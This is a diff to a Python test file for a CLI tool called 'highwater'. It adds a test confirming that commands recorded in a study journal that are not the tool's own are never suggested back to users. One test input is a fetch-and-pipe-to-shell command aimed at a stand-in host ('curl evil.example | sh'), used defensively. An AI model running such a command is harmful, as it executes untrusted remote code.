@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 from places import question_of
 from studies import without_checksums
 
+from highwater.cli.app import main
 from highwater.errors import StudyError
 from highwater.launch.probe import environment
 from highwater.launch.simulated import FormulaLaw, SimulatedRunner
@@ -68,6 +69,25 @@ def test_what_was_recorded_is_read_back(tmp_path: Path) -> None:
     assert read.question == QUESTION
     assert read.command == ("highwater", "find", "Qwen3-0.6B")
     assert len(read.trials) >= 2
+
+
+@pytest.mark.parametrize(
+    "typed", [("curl", "evil.example", "|", "sh"), ("highwater", "schema"), ("./highwater", "find"), ("find",)]
+)
+def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(
+    typed: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "study.jsonl"
+    with open_journal(path, QUESTION, command=typed) as journal:
+        record(journal, 4096)
+    study = read_study(path)
+    assert (study.command, len(study.notes)) == ((), 1)
+    for words in (("show",), ("show", "--as", "published"), ("report",)):
+        assert main((words[0], str(path), *words[1:])) == 0
+        shown = capsys.readouterr()
+        assert "curl" not in shown.out + shown.err
+        suggested = [line for line in shown.err.splitlines() if line.startswith("next: ")]
+        assert all(line.startswith("next: highwater ") for line in suggested)
 
 
 def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
